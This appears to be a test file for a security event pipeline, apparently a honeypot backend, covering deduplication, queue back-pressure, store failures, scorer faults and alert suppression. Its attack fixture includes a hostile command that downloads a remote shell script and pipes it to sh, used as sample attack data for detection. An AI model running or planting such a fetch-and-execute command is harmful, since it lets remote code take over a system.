import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { afterEach, describe, it } from 'node:test';
import { AppError } from '../../src/core/errors.ts';
import type { DraftEvent } from '../../src/core/event.ts';
import type { Store } from '../../src/core/store.ts';
import { createRulesScorer } from '../../src/score/local.ts';
import { aDraft, anAgentDraft } from '../support/drafts.ts';
import { openTestPipeline, type TestPipeline } from '../support/pipeline.ts';

const isUnavailable = (error: unknown): boolean =>
  error instanceof AppError && error.code === 'unavailable' && (error.retryAfterSeconds ?? 1) > 0;

/** A store of which some operations are others. */
const instead = (store: Store, over: Partial<Store>): Store =>
  new Proxy(store, {
    get(target, name) {
      const value = Reflect.get(Object.hasOwn(over, name) ? over : target, name) as unknown;
      return typeof value === 'function' ? value.bind(target) : value;
    },
  });

const sumsUp = ({ pipeline }: TestPipeline): void => {
  const c = pipeline.counters();
  assert.equal(c.received, c.stored! + c.duplicate! + c.rejected! + c.dropped! + c.in_flight!);
};

/** An attack from two sources in three sessions, in the order it happened. */
function aStory(): DraftEvent[] {
  const drafts: DraftEvent[] = [];
  const at = (i: number): string => new Date(Date.parse('2026-11-25T08:00:00Z') + i * 7000).toISOString();
  for (let i = 0; i < 240; i++) {
    const session = `s${i % 3}`;
    const source_ip = `203.0.113.${i % 3 === 2 ? 9 : 7}`;
    const over = { event_id: `e${i}`, timestamp: at(i), session, source_ip };
    if (i < 150) drafts.push(aDraft(over));
    else if (i < 153) drafts.push(aDraft({ ...over, kind: 'login.succeeded', activity: 'login_success' }));
    else if (i % 7 === 0) drafts.push(anAgentDraft({ ...over, session: null, source_ip: 'fileserver' }));
    else
      drafts.push(
        aDraft({
          ...over,
          kind: 'command.run',
          activity: 'command',
          payload: i % 2 ? 'wget http://198.51.100.1/x.sh -O- | sh' : 'uname -a',
        }),
      );
  }
  return drafts;
}

describe('the pipeline', () => {
  let rig: TestPipeline;
  afterEach(() => rig.close());

  it('loses no event on which the scorer fails, and scores the others of its batch', async () => {
    const rules = createRulesScorer();
    const fails = ({ payload }: DraftEvent): boolean => payload === 'unexpected bytes';
    rig = await openTestPipeline({
      scorer: {
        ...rules,
        judge(input) {
          if (fails(input.event)) throw new RangeError('a defect');
          return rules.judge(input);
        },
        toCounts(event, verdict) {
          if (fails(event)) throw new RangeError('a defect');
          return rules.toCounts(event, verdict);
        },
        advance(session, event, ...more) {
          if (fails(event)) throw new RangeError('a defect');
          return rules.advance(session, event, ...more);
        },
      },
    });
    const { pipeline, sender, store } = rig;
    const bad = { payload: 'unexpected bytes', session: 's-1' };
    const results = await pipeline.accept(sender, [aDraft(), aDraft(bad), aDraft(bad), aDraft()]);
    assert.deepEqual(
      results.map(({ status, verdict }) => [status, verdict?.scored_by]),
      [
        ['accepted', 'rules'],
        ['accepted', 'fallback'],
        ['accepted', 'fallback'],
        ['accepted', 'rules'],
      ],
    );
    const view = store.of(sender.user_id);
    assert.equal((await view.events({}, { limit: 10 })).items.length, 4);
    assert.equal((await view.stats()).total_attacks, 4);
    assert.equal((await view.session(sender.node_id, 's-1'))?.events, 2);
    assert.equal(pipeline.counters().scorer_faults, 6);
    sumsUp(rig);
  });

  it('scores, stores and answers an event', async () => {
    rig = await openTestPipeline();
    const { pipeline, sender, store } = rig;
    const [result] = await pipeline.accept(sender, [aDraft()]);
    assert.equal(result?.status, 'accepted');
    assert.match(result?.log_id ?? '', /^log-[0-9a-f]{24}$/);
    const stored = await store.of(sender.user_id).event(result?.log_id ?? '');
    assert.equal(stored?.state, 'done');
    assert.deepEqual(stored?.verdict, result?.verdict);
    assert.equal(stored?.node_id, 'node-1');
    assert.equal(stored?.extra?.password, 'hunter2');
    assert.equal((await store.of(sender.user_id).stats()).total_attacks, 1);
  });

  it('answers an empty call with an empty list', async () => {
    rig = await openTestPipeline();
    assert.deepEqual(await rig.pipeline.accept(rig.sender, []), []);
  });

  it('takes every event without an id as a new one', async () => {
    rig = await openTestPipeline();
    const { pipeline, sender, store } = rig;
    const results = await pipeline.accept(sender, [aDraft(), aDraft(), aDraft()]);
    assert.equal(new Set(results.map((r) => r.log_id)).size, 3);
    assert.equal((await store.of(sender.user_id).stats()).total_attacks, 3);
  });

  it('makes a named event once, whatever repeats it: in the batch, beside it, later', async () => {
    rig = await openTestPipeline();
    const { pipeline, sender, store } = rig;
    const named = (event_id: string) => anAgentDraft({ event_id });
    const [batch, beside] = await Promise.all([
      pipeline.accept(sender, [named('a'), named('b'), named('a')]),
      pipeline.accept(sender, [named('a')]),
    ]);
    const later = await pipeline.accept(sender, [named('a'), named('c')]);
    assert.deepEqual(
      [...batch, ...beside, ...later].map((r) => r.status),
      ['accepted', 'accepted', 'duplicate', 'duplicate', 'duplicate', 'accepted'],
    );
    const first = batch[0]!;
    const hex = createHash('sha256').update('node-1\na').digest('hex').slice(0, 24);
    assert.equal(first.log_id, `log-${hex}`);
    for (const repeat of [batch[2], beside[0], later[0]])
      assert.deepEqual({ ...repeat, status: 'accepted' }, first, 'a repeat gets the first answer');
    const stats = await store.of(sender.user_id).stats();
    assert.equal(stats.total_attacks, 3);
    assert.equal((await store.of(sender.user_id).profile('fileserver'))?.total_attacks, 3);
    sumsUp(rig);
  });

  it('keeps events of one name from two nodes apart', async () => {
    rig = await openTestPipeline();
    const { pipeline, sender } = rig;
    const [one] = await pipeline.accept(sender, [aDraft({ event_id: 'x' })]);
    const [other] = await pipeline.accept({ ...sender, node_id: 'node-2' }, [aDraft({ event_id: 'x' })]);
    assert.equal(other?.status, 'accepted');
    assert.notEqual(one?.log_id, other?.log_id);
  });

  it('tells its listeners whose events were stored', async () => {
    rig = await openTestPipeline();
    const { pipeline, sender } = rig;
    const heard: string[][] = [];
    const stop = pipeline.onCommit((users) => heard.push([...users]));
    pipeline.onCommit(() => {
      throw new Error('a listener that fails');
    });
    await pipeline.accept(sender, [aDraft()]);
    stop();
    await pipeline.accept(sender, [aDraft()]);
    assert.deepEqual(heard, [['user-1']]);
  });

  it('refuses what does not fit into its queue, at once, and takes the rest', async () => {
    rig = await openTestPipeline({ limits: { queueEvents: 10, tenantShare: 1 } });
    const { pipeline, sender, store } = rig;
    const calls = Array.from({ length: 25 }, () => pipeline.accept(sender, [aDraft()]));
    const outcomes = await Promise.allSettled(calls);
    const refused = outcomes.filter((o) => o.status === 'rejected');
    assert.equal(refused.length, 15);
    for (const one of refused) assert.ok(isUnavailable(one.reason));
    assert.equal((await store.of(sender.user_id).stats()).total_attacks, 10);
    assert.equal(pipeline.counters().dropped_queue_full, 15);
    sumsUp(rig);
    assert.equal((await pipeline.accept(sender, [aDraft()]))[0]?.status, 'accepted');
  });

  it('counts what waits by its size too', async () => {
    rig = await openTestPipeline({ limits: { queueBytes: 50_000, tenantShare: 1 } });
    const { pipeline, sender } = rig;
    const heavy = aDraft({ extra: { nested: { text: 'x'.repeat(20_000) } } });
    const outcomes = await Promise.allSettled(
      [heavy, heavy, heavy].map((draft) => pipeline.accept(sender, [draft])),
    );
    assert.deepEqual(
      outcomes.map((o) => o.status),
      ['fulfilled', 'fulfilled', 'rejected'],
    );
  });

  it('leaves room for others when one tenant fills it', async () => {
    rig = await openTestPipeline({ limits: { queueEvents: 100, tenantShare: 0.5 } });
    const { pipeline, sender } = rig;
    const flood = Promise.allSettled(Array.from({ length: 80 }, () => pipeline.accept(sender, [aDraft()])));
    const other = pipeline.accept({ user_id: 'user-2', node_id: 'node-2' }, [aDraft()]);
    assert.equal((await other)[0]?.status, 'accepted');
    const taken = (await flood).filter((o) => o.status === 'fulfilled').length;
    assert.equal(taken, 50);
  });

  it('acknowledges nothing when the store does not answer, and a repeat is harmless', async () => {
    let broken = true;
    rig = await openTestPipeline({
      wrap: (store) =>
        instead(store, {
          async record(...args) {
            if (broken) throw new AppError('unavailable', 'The store does not answer');
            return store.record(...args);
          },
        }),
    });
    const { pipeline, sender, store } = rig;
    const batch = Array.from({ length: 50 }, (_, i) => aDraft({ event_id: `e${i}` }));
    await assert.rejects(pipeline.accept(sender, batch), isUnavailable);
    broken = false;
    const results = await pipeline.accept(sender, batch);
    assert.ok(results.every((r) => r.status === 'accepted'));
    assert.equal((await store.of(sender.user_id).stats()).total_attacks, 50);
    sumsUp(rig);
  });

  it('says which events of a call are not stored when the store fails in between', async () => {
    let commits = 0;
    rig = await openTestPipeline({
      limits: { groupEvents: 10 },
      wrap: (store) =>
        instead(store, {
          async record(...args) {
            if (++commits === 2) throw new AppError('unavailable', 'The store does not answer');
            return store.record(...args);
          },
        }),
    });
    const { pipeline, sender, store } = rig;
    const results = await pipeline.accept(
      sender,
      Array.from({ length: 30 }, () => aDraft()),
    );
    const kept = results.filter((r) => r.status === 'accepted').length;
    assert.equal(kept, 20);
    for (const refused of results.slice(10, 20)) {
      assert.equal(refused.status, 'rejected');
      assert.match(refused.reason ?? '', /send this event again/);
      assert.equal(refused.retryable, true);
    }
    assert.equal((await store.of(sender.user_id).stats()).total_attacks, 20);
    sumsUp(rig);
  });

  it('stores the others when one event breaks a commit', async () => {
    rig = await openTestPipeline({
      wrap: (store) =>
        instead(store, {
          async record(events, ...rest) {
            if (events.some(({ payload }) => payload === 'poison')) throw new RangeError('a bug');
            return store.record(events, ...rest);
          },
        }),
    });
    const { pipeline, sender, store } = rig;
    const batch = Array.from({ length: 100 }, (_, i) => aDraft({ payload: i === 37 ? 'poison' : '' }));
    const [results, alone] = await Promise.all([
      pipeline.accept(sender, batch),
      pipeline.accept(sender, [aDraft({ payload: 'poison' })]).catch((error: AppError) => error.code),
    ]);
    assert.equal(alone, 'internal');
    assert.deepEqual(
      results.flatMap(({ status }, at) => (status === 'accepted' ? [] : [at])),
      [37],
    );
    assert.equal((await store.of(sender.user_id).stats()).total_attacks, 99);
  });

  it('finishes what it accepted when it is closed, and accepts nothing more', async () => {
    rig = await openTestPipeline({ limits: { groupEvents: 5 } });
    const { pipeline, sender, store } = rig;
    const taken = Array.from({ length: 40 }, () => pipeline.accept(sender, [aDraft()]));
    const closed = pipeline.close();
    await assert.rejects(pipeline.accept(sender, [aDraft()]), isUnavailable);
    await closed;
    for (const one of await Promise.all(taken)) assert.equal(one[0]?.status, 'accepted');
    assert.equal((await store.of(sender.user_id).stats()).total_attacks, 40);
    assert.equal(pipeline.counters().dropped_closing, 1);
  });

  it('makes deliveries for the channels and hides what a rule hides, from the next event on', async () => {
    rig = await openTestPipeline();
    const { pipeline, sender, store } = rig;
    const tenant = store.of(sender.user_id);
    const now = new Date().toISOString();
    const doc = (kind: string, id: string, body: object) => ({
      kind,
      id,
      user_id: sender.user_id,
      lookup: null,
      tag: null,
      created_at: now,
      updated_at: now,
      expires_at: null,
      version: 1,
      body: body as never,
    });
    await pipeline.accept(sender, [aDraft()]);
    await tenant.createDoc(
      doc('channel', 'c1', {
        id: 'c1',
        name: 'ours',
        channel: 'webhook',
        settings: {},
        enabled: true,
        filter: {},
        disabled_reason: null,
      }),
    );
    await tenant.createDoc(
      doc('suppression', 'r1', { enabled: true, condition: { sources: ['quiet.host'] }, hits: 0 }),
    );
    pipeline.refresh();
    let woken = false;
    pipeline.onCommit((_users, hasDeliveries) => {
      woken ||= hasDeliveries;
    });
    const agent = anAgentDraft().agent!;
    const [notified, hidden] = await pipeline.accept(sender, [
      anAgentDraft({ timestamp: now }),
      anAgentDraft({ timestamp: now, source_ip: 'quiet.host', agent: { ...agent, hostname: 'quiet.host' } }),
    ]);
    assert.equal(notified?.alert_created, true);
    assert.equal(hidden?.alert_created, false);
    assert.equal((await tenant.event(hidden?.log_id ?? ''))?.suppressed_by, 'r1');
    assert.equal(woken, true);
    const deliveries = (await tenant.deliveries({}, { limit: 10 })).items;
    assert.deepEqual(
      deliveries.map(({ channel_id, occasion, notice }) => [channel_id, occasion, notice.node_name]),
      [['c1', 'opened', 'name of node-1']],
    );
  });
});

describe('batches of any size', () => {
  it('come to the same verdicts, alerts and incidents', async () => {
    const outcomes: unknown[] = [];
    for (const sizes of [[240], [1], [7, 60, 2, 31]]) {
      const rig = await openTestPipeline({
        clock: () => Date.parse('2026-11-25T09:00:00Z'),
        limits: { groupEvents: 100 },
      });
      const { pipeline, sender, store } = rig;
      const drafts = aStory();
      const results = [];
      for (let at = 0, turn = 0; at < drafts.length; turn++) {
        const size = sizes[turn % sizes.length]!;
        results.push(...(await pipeline.accept(sender, drafts.slice(at, at + size))));
        at += size;
      }
      const tenant = store.of(sender.user_id);
      const alerts = (await tenant.alerts({}, { limit: 1000 })).items;
      const incidents = (await tenant.incidents({}, { limit: 1000 })).items;
      outcomes.push({
        verdicts: results.map(({ verdict, alert_created }) => [verdict, alert_created]),
        alerts: alerts.map(({ alert_id, event_count, risk_score, attack_type }) => [
          alert_id,
          event_count,
          risk_score,
          attack_type,
        ]),
        incidents: incidents.map(({ incident_id, event_count, alert_count, risk_score, title }) => [
          incident_id,
          event_count,
          alert_count,
          risk_score,
          title,
        ]),
        stats: await tenant.stats(),
        profile: await tenant.profile('203.0.113.7'),
      });
      assert.ok(alerts.length > 0 && incidents.length > 0, 'the attack makes alerts');
      await rig.close();
    }
    assert.deepEqual(outcomes[1], outcomes[0]);
    assert.deepEqual(outcomes[2], outcomes[0]);
  });
});
